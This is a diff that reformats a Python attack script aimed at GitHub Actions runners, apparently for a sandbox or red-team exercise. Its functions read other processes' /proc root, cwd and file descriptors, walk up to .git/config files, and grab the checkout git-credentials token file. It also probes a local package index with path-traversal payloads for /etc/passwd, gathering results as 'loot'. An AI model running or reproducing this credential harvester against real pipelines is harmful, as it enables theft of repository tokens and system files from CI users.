@@ -69,7 +69,13 @@ def command_lines(stage):
 
 def doors_of_others(stage):
     """/proc/PID/root, cwd and fd of every process: ways around closed folders."""
-    paths = [inside for path in _others() for inside in glob.glob(f"{path}/root/github/runner_temp/*") + glob.glob(f"{path}/cwd/.git/config") + glob.glob(f"{path}/fd/*")]
+    paths = [
+        inside
+        for path in _others()
+        for inside in glob.glob(f"{path}/root/github/runner_temp/*")
+        + glob.glob(f"{path}/cwd/.git/config")
+        + glob.glob(f"{path}/fd/*")
+    ]
     paths = [path for path in paths if os.path.isfile(path)]
     return _seek(paths)
 
@@ -91,12 +97,19 @@ def git_config(stage):
     upwards = [os.getcwd()]
     while upwards[-1] != "/":
         upwards.append(os.path.dirname(upwards[-1]))
-    return _seek(["/github/workspace/.git/config", *(f for f in (f"{path}/.git/config" for path in upwards) if os.path.exists(f))])
+    return _seek(
+        [
+            "/github/workspace/.git/config",
+            *(f for f in (f"{path}/.git/config" for path in upwards) if os.path.exists(f)),
+        ]
+    )
 
 
 def checkout_credentials(stage):
     """The file in which checkout keeps the token from its sixth version on."""
-    return _seek(glob.glob("/github/runner_temp/git-credentials-*.config") or ["/github/runner_temp/git-credentials-1.config"])
+    return _seek(
+        glob.glob("/github/runner_temp/git-credentials-*.config") or ["/github/runner_temp/git-credentials-1.config"]
+    )
 
 
 def event_and_home(stage):
@@ -116,7 +129,16 @@ def index_credentials(stage):
     """Asks the local index for what it knows: wrong paths, other hosts, the headers of its answers."""
     loot = set()
     for port in local_index_ports():
-        for path in ("/", "/live/simple/", "/live/simple/victim/", "/live/victim/json", "/../../../etc/passwd", "/files/x/..%2f..%2fpasswd", "/live/simple/%2e%2e/", "/live/simple/no0such/"):
+        for path in (
+            "/",
+            "/live/simple/",
+            "/live/simple/victim/",
+            "/live/victim/json",
+            "/../../../etc/passwd",
+            "/files/x/..%2f..%2fpasswd",
+            "/live/simple/%2e%2e/",
+            "/live/simple/no0such/",
+        ):
             try:
                 with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=5) as answer:
                     said = answer.read() + bytes(answer.headers)
